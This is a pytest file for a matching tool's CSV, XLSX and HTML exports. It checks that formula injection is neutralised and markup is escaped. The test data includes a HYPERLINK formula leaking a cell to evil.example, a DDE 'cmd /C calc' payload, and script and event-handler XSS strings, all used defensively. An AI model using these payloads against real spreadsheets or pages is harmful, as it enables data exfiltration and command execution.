"""Exports: CSV and XLSX safe from formula injection and faithful to any script, HTML briefs that show text as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from matcher.export import (
    BriefEntry,
    BriefMeeting,
    BriefSection,
    brief_html,
    entries_from_frame,
    neutralise,
    readable,
    schedule_section,
    schedule_table,
    to_csv,
    to_xlsx,
)
from matcher.schedule import Schedule, plan_meetings
from matcher.service.curation import Curation
from matcher.store import ShortlistSuggestion

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
WORLD = ["대전 바이오 클러스터", "Straße der Nationen", "Málaga, España", "Montgomery County, Maryland"]
SCRIPT = "<script>alert('x')</script>"


def read_csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


class _Page(HTMLParser):
    """Collects a page's tags and its text as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    return parser


# ------------------------------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formula_text_with_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("payload", [" =1+1", "\x00=1+1", "\n@SUM(A1)"])
def test_neutralise_sees_a_trigger_behind_spaces_and_control_characters(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [-2.5, -3, np.int64(-4), np.float64(-0.5), "-2", "+1.5e3", "Dortmund", None])
def test_neutralise_leaves_numbers_and_plain_text_alone(value: object) -> None:
    assert neutralise(value) is value


# --------------------------------------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_injection_in_cells(payload: str) -> None:
    rows = read_csv_cells(to_csv(pd.DataFrame({"name": [payload]})))
    assert rows == [["name"], ["'" + payload]]


def test_csv_neutralises_injection_in_column_names() -> None:
    rows = read_csv_cells(to_csv(pd.DataFrame({"=cmd": ["x"]})))
    assert rows[0] == ["'=cmd"]


def test_csv_keeps_negative_numbers_numeric() -> None:
    data = to_csv(pd.DataFrame({"score": [-2.5, 0.75], "count": [-3, 4]}))
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["score"].tolist() == [-2.5, 0.75]
    assert back["count"].tolist() == [-3, 4]
    assert pd.api.types.is_numeric_dtype(back["score"]) and pd.api.types.is_integer_dtype(back["count"])


def test_csv_is_utf8_with_bom_and_round_trips_every_script() -> None:
    data = to_csv(pd.DataFrame({"city": WORLD}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")["city"].tolist() == WORLD


def test_csv_writes_missing_values_empty_and_lists_joined() -> None:
    frame = pd.DataFrame({"sectors": [("adc", "cdmo"), ()], "employees": [np.nan, 12.0]})
    assert read_csv_cells(to_csv(frame)) == [["sectors", "employees"], ["adc; cdmo", ""], ["", "12.0"]]


# -------------------------------------------------------------------------------------------------------- XLSX


def test_xlsx_has_no_formula_cells_and_neutralises_every_payload() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"=name": PAYLOADS})))
    assert all(kind != "f" for row in rows for _, kind in row)
    assert rows[0] == [("'=name", "s")]
    # Without lxml, openpyxl reads a carriage return back as a line feed (XML line-end handling).
    assert [str(row[0][0]).replace("\r", "\n") for row in rows[1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]


def test_xlsx_keeps_negative_numbers_numeric() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"score": [-2.5], "count": [-3], "label": ["-2"]})))
    assert rows[1] == [(-2.5, "n"), (-3, "n"), ("-2", "s")]


def test_xlsx_round_trips_every_script() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"도시": WORLD})))
    assert [value for [(value, _)] in rows] == ["도시", *WORLD]


def test_xlsx_drops_control_characters_xml_cannot_hold() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"note": ["bell\x07 and nul\x00 gone"]})))
    assert rows[1] == [("bell and nul gone", "s")]


def test_xlsx_neutralises_a_formula_hidden_behind_a_control_character() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"\x00=name": ["\x00=1+1"]})))
    assert rows == [[("'=name", "s")], [("'=1+1", "s")]]


def test_xlsx_writes_missing_values_as_empty_cells_and_lists_joined() -> None:
    rows = read_xlsx(to_xlsx(pd.DataFrame({"sectors": [["adc", "cdmo"]], "stage": [None], "founded": [pd.NA]})))
    assert [value for value, _ in rows[1]] == ["adc; cdmo", None, None]


def test_xlsx_sheet_title_is_made_valid() -> None:
    data = to_xlsx(pd.DataFrame({"a": [1]}), sheet_name="Shortlist: [ADC]/Q3? *final* and a long tail")
    title = load_workbook(io.BytesIO(data)).active.title
    assert len(title) <= 31 and not set(title) & set("\\/?*[]:")
    assert title.startswith("Shortlist")


def test_xlsx_header_is_frozen_and_filterable() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})))).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet["A1"].font.b


# ------------------------------------------------------------------------------------------------------- brief


def test_brief_escapes_html_everywhere_so_it_shows_as_text() -> None:
    entry = BriefEntry(
        name=SCRIPT,
        city=SCRIPT,
        org_type=SCRIPT,
        stage=SCRIPT,
        shortlist_stage=SCRIPT,
        reasons=(SCRIPT,),
        notes=(SCRIPT,),
        details=((SCRIPT, SCRIPT),),
    )
    meeting = BriefMeeting(SCRIPT, SCRIPT, SCRIPT)
    page = brief_html(SCRIPT, [BriefSection(SCRIPT, SCRIPT, (entry,), (meeting,))], subtitle=SCRIPT)
    parsed = parse(page)
    assert "script" not in parsed.tags
    assert sum(SCRIPT in text for text in parsed.text) >= 14


def test_brief_escapes_quotes_so_text_cannot_open_an_attribute() -> None:
    page = brief_html('x" onmouseover="alert(1)', [BriefSection("s", entries=(BriefEntry('" onclick="y'),))])
    assert 'onmouseover="' not in page and 'onclick="' not in page


def test_brief_is_self_contained_and_forbids_scripts() -> None:
    page = brief_html("Daejeon delegation", [BriefSection("Hosts", entries=(BriefEntry("Costa Bio"),))])
    tags = set(parse(page).tags)
    assert not tags & {"script", "link", "img", "iframe", "object"}
    assert "src=" not in page and "href=" not in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "@media print" in page


def test_brief_shows_every_field_of_an_entry() -> None:
    entry = BriefEntry(
        name="Costa Bio",
        city="Málaga",
        country="ES",
        org_type="research_institute",
        stage="series_a",
        shortlist_stage="contacted",
        score=0.8123,
        reasons=("They offer GMP fill-finish", "You need scale-up"),
        notes=("Call in May",),
        details=(("Website", "https://costa.example"),),
    )
    text = " ".join(parse(brief_html("Brief", [BriefSection("Shortlist", entries=(entry,))])).text)
    for shown in (
        "Costa Bio",
        "Málaga, ES",
        "Research institute",
        "Series A",
        "shortlist: contacted",
        "score 0.81",
        "They offer GMP fill-finish",
        "You need scale-up",
        "Call in May",
        "Website",
        "https://costa.example",
    ):
        assert shown in text


def test_brief_says_when_a_section_is_empty() -> None:
    assert "Nothing here yet." in brief_html("Brief", [BriefSection("Shortlist")])


def test_schedule_section_names_meetings_and_who_is_left_without_one() -> None:
    plan = plan_meetings(
        np.array([[0.9], [0.0]]),
        ["dj-1", "dj-2"],
        ["do-1"],
        ["Tue 10:00"],
        [["Tue 10:00"]] * 2,
        [["Tue 10:00"]],
        1,
        1,
    )
    section = schedule_section(plan, {"dj-1": "Hanbit Bio", "dj-2": "대덕 로보틱스", "do-1": "Ruhr Robotics"})
    assert section.meetings == (BriefMeeting("Tue 10:00", "Hanbit Bio", "Ruhr Robotics", 0.9, "strong"),)
    assert "1 meeting, total score 0.90: the best possible plan." in section.intro
    assert "Not enough good matches for 대덕 로보틱스" in section.intro
    text = " ".join(parse(brief_html("Delegation", [section])).text)
    assert "Hanbit Bio" in text and "Ruhr Robotics" in text and "0.90" in text


def test_entries_from_frame_reads_a_shortlist_table() -> None:
    frame = pd.DataFrame(
        {
            "profile_id": ["ma-1", "ma-2"],
            "name": ["Costa Bio", "Sol Labs"],
            "city": ["Málaga", np.nan],
            "shortlist_stage": ["meeting", None],
            "score": [0.5, np.nan],
            "reasons": [["Shared sector"], np.nan],
            "note": ["Call in May", None],
        }
    )
    assert entries_from_frame(frame) == (
        BriefEntry(
            "Costa Bio",
            city="Málaga",
            shortlist_stage="meeting",
            score=0.5,
            reasons=("Shared sector",),
            notes=("Call in May",),
        ),
        BriefEntry("Sol Labs"),
    )


def test_entries_from_frame_needs_names() -> None:
    with pytest.raises(ValueError, match="'name' column"):
        entries_from_frame(pd.DataFrame({"city": ["Seattle"]}))


def _reasoned_plan() -> Schedule:
    plan = plan_meetings(
        np.array([[0.312345, 0.0], [0.0, 0.1]]),
        ["dj-1", "dj-2"],
        ["do-1", "do-2"],
        ["Tue 10:00"],
        [["Tue 10:00"]] * 2,
        [["Tue 10:00"]] * 2,
        1,
        1,
    )
    return plan.with_reasons({("dj-1", "do-1"): "Their offer meets your need: ADC fill-finish"})


def test_planner_csv_and_xlsx_round_scores_to_two_decimals_and_carry_the_reason() -> None:
    table = schedule_table(_reasoned_plan(), {"dj-1": "Hanbit Bio", "do-1": "Ruhr Fill"})
    assert read_csv_cells(to_csv(table)) == [
        ["Slot", "Visitor", "Host", "Score", "Band", "Reason"],
        ["Tue 10:00", "Hanbit Bio", "Ruhr Fill", "0.31", "strong", "Their offer meets your need: ADC fill-finish"],
    ]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet["D2"].value == 0.31


def test_planner_brief_rounds_scores_and_shows_each_reason() -> None:
    section = schedule_section(_reasoned_plan(), {"dj-1": "Hanbit Bio", "dj-2": "Bora Bio", "do-1": "Ruhr Fill"})
    assert section.meetings[0].score == 0.31
    page = brief_html("Delegation", [section])
    assert "0.31 (strong)" in page and "0.312" not in page
    assert "Their offer meets your need: ADC fill-finish" in page


def test_planner_brief_says_who_has_not_enough_good_matches() -> None:
    section = schedule_section(_reasoned_plan(), {"dj-2": "Bora Bio", "do-2": "Ruhr Two"})
    assert "Not enough good matches for Bora Bio, Ruhr Two: no pair scores at least 0.24, the possible band." in (
        section.intro
    )


# ------------------------------------------------------------------------------------ shortlist exports in context

SHORTLIST_PROFILES = (
    "id,name,org_type,city,country,sectors,description,offers,seeks\n"
    "dj-1,Hanbit Bioworks,startup,Daejeon,KR,ADC,Site-specific ADC linkers.,Linker chemistry,GMP fill-finish\n"
    "ma-1,Biomédica Costa del Sol,company,Málaga,ES,CDMO,A CDMO.,Aseptic fill-finish,ADC projects\n"
    "do-1,Ruhr Institute of Fill Technology,research_institute,Dortmund,DE,CDMO,Fill lines.,Fill-finish,ADC\n"
)


@pytest.fixture
def curated(tmp_path: Path) -> tuple[Curation, int]:
    """A workspace of three profiles and kim's shortlist for Hanbit: ma-1 from a suggestion, do-1 added by hand."""
    from matcher.api import Matcher

    (tmp_path / "p.csv").write_text(SHORTLIST_PROFILES, encoding="utf-8")
    matcher = Matcher(tmp_path / "ws")
    matcher.import_profiles(tmp_path / "p.csv")
    curation = matcher.curation
    list_id = curation.create_shortlist("ADC partners", owner="kim")
    reasons = ("Their offer meets your need: aseptic fill-finish", "=cmd|' /C calc'!A0")
    curation.set_shortlist_entry(list_id, "ma-1", suggestion=ShortlistSuggestion("dj-1", 0.612345, reasons))
    curation.set_shortlist_entry(list_id, "do-1", note="met at BIO")
    return curation, list_id


def test_a_shortlist_csv_says_whose_list_it_is_for_whom_and_the_local_date(curated: tuple[Curation, int]) -> None:
    curation, list_id = curated
    table = pd.read_csv(io.BytesIO(curation.shortlist_csv(list_id, prepared_by="lee")), encoding="utf-8-sig",
                        keep_default_na=False)
    assert table[["shortlist", "owner", "prepared by"]].drop_duplicates().values.tolist() == [
        ["ADC partners", "kim", "lee"]
    ]
    assert set(table["prepared on"]) == {dt.date.today().isoformat()}
    assert dict(zip(table["id"], table["suggested for"], strict=True)) == {"ma-1": "Hanbit Bioworks", "do-1": ""}


def test_a_shortlisted_suggestion_keeps_its_score_rounded_and_its_reasons_formula_safe(
    curated: tuple[Curation, int],
) -> None:
    curation, list_id = curated
    [header, *rows] = read_csv_cells(curation.shortlist_csv(list_id))
    by_id = {row["id"]: row for row in (dict(zip(header, cells, strict=True)) for cells in rows)}
    assert by_id["ma-1"]["score"] == "0.61"
    assert by_id["ma-1"]["reasons"] == "Their offer meets your need: aseptic fill-finish; =cmd|' /C calc'!A0"
    assert by_id["do-1"]["score"] == ""  # added by hand: no score is made up


def test_shortlist_exports_show_types_in_words(curated: tuple[Curation, int]) -> None:
    curation, list_id = curated
    sheet = load_workbook(io.BytesIO(curation.shortlist_xlsx(list_id))).active
    header = [cell.value for cell in sheet[1]]
    rows = sheet.iter_rows(min_row=2, values_only=True)
    types = {row[header.index("id")]: row[header.index("type")] for row in rows}
    assert types == {"ma-1": "Company", "do-1": "Research institute"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_shortlist_brief_has_the_date_the_owner_whom_it_is_for_scores_and_reasons(
    curated: tuple[Curation, int],
) -> None:
    curation, list_id = curated
    text = " ".join(parse(curation.shortlist_brief(list_id, prepared_by="lee")).text)
    assert f"prepared on {dt.date.today().isoformat()} by lee" in text
    assert "suggested for Hanbit Bioworks" in text and "list kept by kim" in text
    assert "score 0.61" in text and "Their offer meets your need: aseptic fill-finish" in text
    assert "Research institute" in text and "research_institute" not in text


def test_readable_labels_spell_codes_as_words() -> None:
    assert [readable(code) for code in ("research_institute", "sme", "series_a", "")] == [
        "Research institute", "SME", "Series A", ""
    ]
